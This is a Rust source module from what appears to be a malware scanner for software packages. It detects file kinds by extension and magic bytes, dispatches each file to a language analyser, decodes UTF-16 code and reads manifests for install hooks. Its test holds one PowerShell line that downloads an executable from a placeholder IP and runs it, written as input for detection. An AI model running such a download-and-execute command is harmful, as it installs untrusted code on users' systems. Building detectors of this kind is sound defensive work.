//! Languages: which one a file is in, its facts, and what manifests say about when it runs.
//!
//! A language has a module that lowers its syntax tree to a [`Program`](crate::program::Program) and a table of what
//! its functions do; data-flow is in [`flow`](crate::flow), once for all.

pub mod bytecode;
pub mod javascript;
pub mod native;
pub mod pickle;
pub mod python;
pub mod rust;
pub mod shell;
pub mod tokens;

mod measure;

use crate::facts::{Facts, Measures};
use crate::flow::Outside;
use crate::package::{Kind, Package};

/// What kind of bytes a file is.
pub fn kind(path: &str, bytes: &[u8]) -> Kind {
    let path = crate::unpack::first_name(path).unwrap_or(path);
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    if let Some(kind) = javascript::kind_of_types(&name) {
        return kind;
    }
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension);
    match extension {
        // Models are saved under the name that Python's paths have.
        "pth" if pickle::is_pickle(bytes) => Kind::Pickle,
        "pkl" | "pickle" => Kind::Pickle,
        "py" | "pyw" | "pyi" | "pth" => Kind::Python,
        "js" | "cjs" | "mjs" | "jsx" | "ts" | "cts" | "mts" | "tsx" => Kind::JavaScript,
        "rs" => Kind::Rust,
        "sh" | "bash" | "zsh" | "bat" | "cmd" | "ps1" => Kind::Shell,
        "pyc" | "pyo" => Kind::Bytecode,
        "json" | "toml" | "yml" | "yaml" | "cfg" | "ini" | "lock" | "gyp" | "gypi" => Kind::Settings,
        _ => by_magic(bytes),
    }
}

fn by_magic(bytes: &[u8]) -> Kind {
    let starts = |magic: &[u8]| bytes.starts_with(magic);
    if starts(b"\x7fELF")
        || starts(b"MZ")
        || starts(b"\xcf\xfa\xed\xfe")
        || starts(b"\xca\xfe\xba\xbe")
        || starts(b"\0asm")
    {
        Kind::Native
    } else if starts(b"PK\x03\x04")
        || starts(b"\x1f\x8b")
        || starts(b"BZh")
        || starts(b"\xfd7zXZ\0")
        || starts(b"\x28\xb5\x2f\xfd")
    {
        Kind::Archive
    } else if pickle::is_pickle(bytes) {
        Kind::Pickle
    } else if starts(b"#!") {
        let line = bytes.split(|b| *b == b'\n').next().unwrap_or_default();
        let says = |word: &[u8]| memchr::memmem::find(line, word).is_some();
        if says(b"python") {
            Kind::Python
        } else if says(b"node") || says(b"bun") || says(b"deno") {
            Kind::JavaScript
        } else {
            Kind::Shell
        }
    } else if bytes.get(..bytes.len().min(4096)).is_some_and(|head| memchr::memchr(0, head).is_none()) {
        Kind::Text
    } else {
        Kind::Data
    }
}

/// The facts of a file, by itself.
pub fn facts(kind: Kind, path: &str, bytes: &[u8]) -> Facts {
    facts_beside(kind, path, bytes, &Outside::default())
}

/// The facts of a file, with what other files give it.
pub fn facts_beside(kind: Kind, path: &str, bytes: &[u8], outside: &Outside) -> Facts {
    let plain = if kind.is_code() { from_utf16(bytes) } else { None };
    let bytes = plain.as_deref().map_or(bytes, str::as_bytes);
    let mut facts = match kind {
        Kind::Python => python::facts(path, bytes, outside),
        Kind::JavaScript => javascript::facts(path, bytes, outside),
        Kind::Rust => rust::facts(path, bytes, outside),
        Kind::Shell => return shell::of_file(bytes),
        Kind::Bytecode => return bytecode::facts(bytes),
        Kind::Native => return native::facts(bytes),
        Kind::Pickle => pickle::facts(bytes),
        _ => return Facts::default(),
    };
    shell::look_within(&mut facts);
    facts
}

/// Code in UTF-16, by its byte order mark: PowerShell and editors of Windows write it, and whoever reads UTF-8 sees
/// nothing in it. Places in it are those of the plain text.
fn from_utf16(bytes: &[u8]) -> Option<String> {
    const LONGEST: usize = 32 << 20;
    let unit: fn([u8; 2]) -> u16 = match bytes.get(..2)? {
        [0xFF, 0xFE] => u16::from_le_bytes,
        [0xFE, 0xFF] => u16::from_be_bytes,
        _ => return None,
    };
    let pairs = bytes.get(2..)?.chunks_exact(2).take(LONGEST);
    let units = pairs.filter_map(|pair| Some(unit([*pair.first()?, *pair.get(1)?])));
    Some(char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER)).collect())
}

/// What the bytes of a file say without being parsed: how it looks, and that it was not read.
pub(crate) fn shape(kind: Kind, bytes: &[u8]) -> Facts {
    if !kind.is_code() {
        return Facts::default();
    }
    let measures = measure::of(bytes, Measures::default());
    let measures = if kind == Kind::JavaScript { javascript::look(bytes, measures) } else { measures };
    Facts { measures, cut_short: true, ..Facts::default() }
}

/// Reads the package's manifests, and says of every file when it runs.
pub fn manifests(package: &mut Package) {
    match package.ecosystem.as_str() {
        "pypi" => python::manifest(package),
        "npm" => javascript::manifest(package),
        "cargo" => rust::manifest(package),
        _ => {}
    }
    shell::hooks(package);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::facts::Sink;

    #[test]
    fn code_in_utf16_is_read_either_way_round() {
        let text = "Invoke-WebRequest http://192.0.2.1/a.exe -OutFile a.exe; Start-Process a.exe\r\n";
        let little: Vec<u8> =
            [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
        let big: Vec<u8> =
            [0xFEFF].into_iter().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect();
        let plain = facts(Kind::Shell, "a.ps1", text.as_bytes());
        assert!(plain.flows.iter().any(|flow| flow.sink == Sink::Run), "{plain:?}");
        for bytes in [&little, &big] {
            assert_eq!(facts(Kind::Shell, "a.ps1", bytes).flows, plain.flows);
            facts(Kind::Shell, "a.ps1", &bytes[..bytes.len() - 1]);
        }
    }
}
